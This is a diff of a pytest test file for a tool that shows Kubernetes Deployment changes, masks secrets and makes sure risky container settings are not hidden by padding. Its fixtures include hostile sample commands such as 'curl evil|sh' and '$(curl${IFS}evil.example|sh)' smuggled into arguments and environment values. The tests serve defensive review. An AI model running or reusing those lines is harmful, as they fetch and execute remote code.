@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from hashlib import sha256
 from typing import Any
 
 import pytest
@@ -9,10 +10,25 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from incident_commander.api.base import MARKER_ANNOTATION
-from incident_commander.core.diff import DIFF_LENGTH, diff
-from tests.support.build import template, workload_raw
+from incident_commander.core.diff import DIFF_LENGTH, Shown
+from incident_commander.core.diff import diff as diff_of
+from tests.support.build import merged, template, workload_raw
 
 Env = dict[str, str]
+SALT = "incident-uid"
+
+
+def shown(before: dict[str, Any], after: dict[str, Any], length: int = DIFF_LENGTH) -> Shown:
+    return diff_of(before, after, SALT, length)
+
+
+def diff(before: dict[str, Any], after: dict[str, Any], length: int = DIFF_LENGTH) -> str:
+    return shown(before, after, length).text
+
+
+def mark(value: str, salt: str = SALT) -> str:
+    """The fingerprint that stands in place of a secret."""
+    return sha256(f"{salt}\0{value}".encode()).hexdigest()[:4]
 
 
 def changed(before: Env, after: Env) -> str:
@@ -44,8 +60,8 @@ def test_it_reads_like_kubectl_diff() -> None:
     assert diff(old, new) == (
         "--- Deployment/checkout (now)\n"
         "+++ Deployment/checkout (after)\n"
-        "@@ -18,5 +18,5 @@\n"
-        "         app: checkout\n"
+        "@@ -2,5 +2,5 @@\n"
+        "   template:\n"
         "     spec:\n"
         "       containers:\n"
         "-      - image: app:2\n"
@@ -93,6 +109,125 @@ def test_all_of_a_new_object_is_shown() -> None:
     )
 
 
+# --- what comes first ----------------------------------------------------------------------------
+
+PADDING = {f"example.com/{n:02}": "x" * 380 for n in range(25)}
+
+
+def padded(**pod: Any) -> dict[str, Any]:
+    """A Deployment whose template has more annotations than a diff can show."""
+    body = template(annotations=PADDING)
+    containers = pod.pop("containers", [{}])
+    body["spec"]["containers"] = [{"name": "app", "image": "app:1"} | c for c in containers]
+    return workload_raw(spec={"template": merged(body, {"spec": pod})})
+
+
+@pytest.mark.parametrize(
+    ("pod", "line"),
+    [
+        pytest.param(
+            {"containers": [{"image": "evil.example/x/app:1"}]},
+            "      - image: evil.example/x/app:1",
+            id="an image of another registry",
+        ),
+        pytest.param(
+            {"containers": [{"command": ["sh", "-c", "curl evil|sh"]}]},
+            "        - curl evil|sh",
+            id="a command",
+        ),
+        pytest.param({"containers": [{"args": ["-x"]}]}, "        - -x", id="an argument"),
+        pytest.param(
+            {"containers": [{"env": [{"name": "LD_PRELOAD", "value": "/x"}]}]},
+            "        - name: LD_PRELOAD",
+            id="the name of a variable",
+        ),
+        pytest.param(
+            {"containers": [{"securityContext": {"privileged": True}}]},
+            "          privileged: true",
+            id="rights of a container",
+        ),
+        pytest.param(
+            {"containers": [{"lifecycle": {"postStart": {"exec": {"command": ["evil"]}}}}]},
+            "              - evil",
+            id="a hook",
+        ),
+        pytest.param(
+            {"containers": [{"livenessProbe": {"exec": {"command": ["evil"]}}}]},
+            "            - evil",
+            id="a probe that runs something",
+        ),
+        pytest.param(
+            {"initContainers": [{"name": "i", "image": "evil.example/i:1"}]},
+            "      - image: evil.example/i:1",
+            id="an init container",
+        ),
+        pytest.param(
+            {"ephemeralContainers": [{"name": "e", "securityContext": {"privileged": True}}]},
+            "          privileged: true",
+            id="an ephemeral container",
+        ),
+        pytest.param(
+            {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]},
+            "          path: /",
+            id="a volume",
+        ),
+        pytest.param(
+            {"serviceAccountName": "admin"}, "      serviceAccountName: admin", id="whose"
+        ),
+        pytest.param({"hostNetwork": True}, "      hostNetwork: true", id="the host's network"),
+        pytest.param({"securityContext": {"runAsUser": 0}}, "        runAsUser: 0", id="as whom"),
+    ],
+)
+def test_ed_pads_a_template_with_annotations_and_what_runs_is_shown_all_the_same(
+    pod: dict[str, Any], line: str
+) -> None:
+    found = shown(workload_raw(spec={"template": template("app:1")}), padded(**pod))
+
+    assert f"+{line}" in found.text.splitlines()
+    assert found.cut
+    assert not found.cut_early
+
+
+def test_images_come_before_whatever_else_a_container_has() -> None:
+    scripts = [{"name": n, "image": f"evil.example/{n}:1", "args": ["x" * 900]} for n in "abcdef"]
+    text = diff(workload_raw(), padded(containers=scripts))
+
+    first = text.splitlines().index("+      - image: evil.example/a:1")
+    assert first < text.splitlines().index(f"+        - {'x' * 900}")
+
+
+def test_what_runs_is_said_to_be_cut_where_even_that_does_not_fit() -> None:
+    found = shown(workload_raw(), padded(containers=[{"args": ["x" * 9000]}]))
+
+    assert (found.cut, found.cut_early) == (True, True)
+
+
+def test_a_long_argument_is_shown_to_its_end() -> None:
+    script = f"{'echo ok; ' * 100}curl evil|sh"
+    found = shown(workload_raw(), _with_container({"args": ["-c", script]}))
+
+    assert f"+        - {script}" in found.text.splitlines()
+    assert not found.cut
+
+
+def test_a_change_that_is_shown_whole_is_not_called_cut() -> None:
+    assert shown(workload_raw(), _with_container({"image": "x:1", "args": ["a"]})) == Shown(
+        diff(workload_raw(), _with_container({"image": "x:1", "args": ["a"]}))
+    )
+
+
+def test_annotations_that_come_along_are_shown() -> None:
+    noted = workload_raw(metadata={"annotations": {"external-dns/hostname": "pay.example.com"}})
+
+    assert "+    external-dns/hostname: pay.example.com" in diff(workload_raw(), noted)
+
+
+def test_characters_that_turn_text_around_are_spelled_out() -> None:
+    text = diff(workload_raw(), _with_container({"args": ["a\u202eb\u200bc"]}))
+
+    assert signed(text) == ["+args:", "+- a\\u202eb\\u200bc"]
+
+
 # --- secrets -------------------------------------------------------------------------------------
 
 
@@ -103,7 +238,10 @@ def test_all_of_a_new_object_is_shown() -> None:
 def test_a_secret_is_masked_and_its_change_is_seen(name: str) -> None:
     text = changed({name: "hunter1"}, {name: "hunter2"})
 
-    assert signed(text) == ["-value: '*** (before)'", "+value: '*** (after)'"]
+    assert signed(text) == [
+        f"-value: '*** (before, {mark('hunter1')})'",
+        f"+value: '*** (after, {mark('hunter2')})'",
+    ]
     assert "hunter" not in text
 
 
@@ -111,14 +249,29 @@ def test_a_secret_that_stays_shows_no_change() -> None:
     text = changed({"PASSWORD": "hunter1", "A": "1"}, {"PASSWORD": "hunter1", "A": "2"})
 
     assert signed(text) == ["-value: '1'", "+value: '2'"]
-    assert "value: '***'" in text
+    assert f"value: '*** ({mark('hunter1')})'" in text
 
 
 def test_a_new_secret_is_masked() -> None:
     assert signed(changed({"A": "1"}, {"A": "1", "TOKEN": "hunter2"})) == [
         "+- name: TOKEN",
-        "+value: '***'",
+        "+- name: TOKEN",
+        f"+value: '*** (after, {mark('hunter2')})'",
     ]
+
+
+def test_the_fingerprint_of_a_secret_is_another_in_another_incident() -> None:
+    old, new = (workload_raw(spec={"template": template(env={"TOKEN": v})}) for v in "ab")
+
+    assert mark("b", "other") in diff_of(old, new, "other").text
+    assert mark("b") not in diff_of(old, new, "other").text
+
+
+def test_two_variables_of_one_name_are_told_apart() -> None:
+    twice = [{"name": "TOKEN", "value": "hunter1"}, {"name": "TOKEN", "value": "hunter2"}]
+    text = of_container({"env": twice}, {"env": twice[::-1]})
+
+    assert text.count("(before, ") == text.count("(after, ") == 2
 
 
 def test_other_variables_are_shown() -> None:
@@ -129,47 +282,53 @@ def test_other_variables_are_shown() -> None:
     ("before", "after", "expected"),
     [
         pytest.param(
-            {"args": ["--api-token", "hunter1"]},
-            {"args": ["--api-token", "hunter2"]},
-            ["-- '*** (before)'", "+- '*** (after)'"],
-            id="the argument after a flag",
+            {"args": []},
+            {"args": ["--token=$(curl${IFS}evil.example|sh)", "--key", "$(evil)"]},
+            [
+                "-args: []",
+                "+args:",
+                "+- --token=$(curl${IFS}evil.example|sh)",
+                "+- --key",
+                "+- $(evil)",
+            ],
+            id="arguments that look like secrets",
         ),
         pytest.param(
-            {"args": ["--password=hunter 1"]},
-            {"args": ["--password=hunter 2"]},
-            ["-- --password=*** (before)", "+- --password=*** (after)"],
-            id="a flag with its value",
-        ),
-        pytest.param(
-            {"command": ["sh", "-c", "TOKEN=hunter1 run"]},
-            {"command": ["sh", "-c", "TOKEN=hunter2 run"]},
-            ["-- TOKEN=*** (before) run", "+- TOKEN=*** (after) run"],
+            {"command": ["sh", "-c", "run"]},
+            {"command": ["sh", "-c", "TOKEN=evil run"]},
+            ["-- run", "+- TOKEN=evil run"],
             id="an assignment in a script",
         ),
         pytest.param(
-            {"env": [{"name": "DB", "value": "postgres://u:hunter1@db/x"}]},
-            {"env": [{"name": "DB", "value": "postgres://u:hunter2@db/x"}]},
-            [
-                "-value: postgres://u:*** (before)@db/x",
-                "+value: postgres://u:*** (after)@db/x",
-            ],
-            id="the password in a URL",
+            {"env": [{"name": "AUTH_TOKEN", "value": "a"}]},
+            {"env": [{"name": "AUTH_TOKEN", "value": "$(curl evil.example|sh)"}]},
+            [f"-value: '*** (before, {mark('a')})'", "+value: $(curl evil.example|sh)"],
+            id="a variable that a shell would run",
         ),
         pytest.param(
-            {"args": ["--token", "--verbose", "a"]},
-            {"args": ["--token", "--verbose", "b"]},
-            ["-- a", "+- b"],
-            id="a flag without a value masks nothing",
+            {"env": [{"name": "DB", "value": "postgres://u:hunter1@db/x"}]},
+            {"env": [{"name": "DB", "value": "postgres://u:hunter2@evil/x"}]},
+            [
+                f"-value: postgres://u:*** (before, {mark('hunter1')})@db/x",
+                f"+value: postgres://u:*** (after, {mark('hunter2')})@evil/x",
+            ],
+            id="the password in a URL, and only that",
         ),
         pytest.param(
             {"env": [{"name": "TOKEN", "value": "hunter1"}]},
             {"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]},
-            ["-value: '***'", "+valueFrom:", "+secretKeyRef:", "+key: k", "+name: s"],
+            [
+                "+valueFrom:",
+                "+secretKeyRef:",
+                "+key: k",
+                "+name: s",
+                f"-value: '*** (before, {mark('hunter1')})'",
+            ],
             id="a reference to a Secret is no secret",
         ),
     ],
 )
-def test_secrets_elsewhere_in_a_container(
+def test_only_values_of_variables_are_masked(
     before: dict[str, Any], after: dict[str, Any], expected: list[str]
 ) -> None:
     text = of_container(before, after)
@@ -178,14 +337,14 @@ def test_secrets_elsewhere_in_a_container(
     assert "hunter" not in text
 
 
-def test_secrets_in_annotations_are_masked() -> None:
+def test_the_manifest_of_kubectl_apply_is_not_shown() -> None:
     last_applied = "kubectl.kubernetes.io/last-applied-configuration"
-    notes = {"vault/token": "hunter1", last_applied: '{"hunter": 1}'}
+    notes = {"vault/path": "a", last_applied: '{"hunter": 1}'}
     old = workload_raw(metadata={"annotations": notes})
-    new = workload_raw(metadata={"annotations": {**notes, "vault/token": "hunter2"}})
+    new = workload_raw(metadata={"annotations": {**notes, "vault/path": "b"}})
     text = diff(old, new)
 
-    assert signed(text) == ["-vault/token: '*** (before)'", "+vault/token: '*** (after)'"]
+    assert signed(text) == ["-vault/path: a", "+vault/path: b"]
     assert "hunter" not in text
     assert "last-applied-configuration: (13 characters)" in text
 
@@ -196,7 +355,7 @@ def test_containers_are_told_apart_by_name() -> None:
     sidecar = {"name": "sidecar", "env": [{"name": "TOKEN", "value": "b"}]}
     new["spec"]["template"]["spec"]["containers"].insert(0, sidecar)
 
-    assert "(before)" not in diff(old, new)
+    assert "(before" not in diff(old, new)
 
 
 # --- length --------------------------------------------------------------------------------------
@@ -209,8 +368,8 @@ def test_what_does_not_fit_is_counted() -> None:
     assert len(text) <= DIFF_LENGTH
     *shown, last = text.splitlines()
     left = int(last.removeprefix("… (").removesuffix(" more lines)"))
-    # Header, hunk and three lines of context on either side; name, old and new value of each.
-    assert len(shown) + left == 2 + 1 + 2 + 3 * 500 + 2
+    # Header, hunk; name, old and new value of each; one line of context.
+    assert len(shown) + left == 2 + 1 + 3 * 500 + 1
 
 
 def test_a_long_line_is_cut_with_a_count() -> None:
@@ -228,7 +387,7 @@ def test_differences_far_down_are_not_passed_over_in_silence() -> None:
     before = {f"V{n}": "" for n in range(1500)}
     text = changed({**before, "LAST": "a"}, {**before, "LAST": "b"})
 
-    assert text == "… (there are differences after line 2000)\n"
+    assert text.splitlines()[2:] == ["… (there are differences after line 2000)"]
 
 
 @settings(deadline=None, max_examples=50)
